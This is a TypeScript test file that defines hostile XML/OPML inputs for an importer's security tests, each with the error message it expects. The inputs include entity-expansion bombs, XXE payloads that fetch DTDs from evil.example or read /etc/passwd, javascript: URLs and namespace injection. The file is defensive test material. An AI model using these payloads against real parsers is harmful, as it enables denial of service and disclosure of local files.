/** Twelve XML files that are out for harm or broken (TRUST T7), each with words of the answer it must get. */
const opml = (body: string): string => `<?xml version="1.0"?><opml version="2.0"><body>${body}</body></opml>`;
const laughs = Array.from({ length: 10 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');
const nested = (depth: number): string => `${'<outline text="x">'.repeat(depth)}${'</outline>'.repeat(depth)}`;

export const HOSTILE_XML: readonly (readonly [name: string, content: string, answer: string])[] = [
  ['laughs', `<!DOCTYPE o [<!ENTITY l0 "ha">${laughs}]><opml><body>&l10;</body></opml>`, 'It was not opened'],
  [
    'quadratic',
    `<!DOCTYPE o [<!ENTITY a "${'a'.repeat(50_000)}">]><opml>${'&a;'.repeat(50_000)}</opml>`,
    'It was not opened',
  ],
  ['external', '<!DOCTYPE o SYSTEM "https://evil.example/x.dtd"><opml/>', 'It was not opened'],
  ['file', '<!DOCTYPE o [<!ENTITY f SYSTEM "file:///etc/passwd">]><opml>&f;</opml>', 'It was not opened'],
  ['parameter', '<!doctype o [<!entity % p SYSTEM "https://evil.example/p"> %p;]><opml/>', 'It was not opened'],
  ['late', `<opml><body>${'<outline/>'.repeat(100)}<!ENTITY x "y"></body></opml>`, 'It was not opened'],
  ['deep', opml(nested(100_000)), ''],
  ['many', opml('<outline text="a" xmlUrl="https://a.example/f"/>'.repeat(25_000)), 'more than 20,000 entries'],
  ['big', opml(' '.repeat(10_000_001)), 'too big to open'],
  ['script', opml('<outline text="x" xmlUrl="javascript:alert(1)" htmlUrl="data:text/html,x"/>'), 'left out'],
  ['cut', '<opml><body><outline xmlUrl="https://a.exam', 'not a list of feeds'],
  [
    'xhtml',
    '<opml><form xmlns="http://www.w3.org/1999/xhtml"><input name="localName"/></form></opml>',
    'nobody in this file',
  ],
];
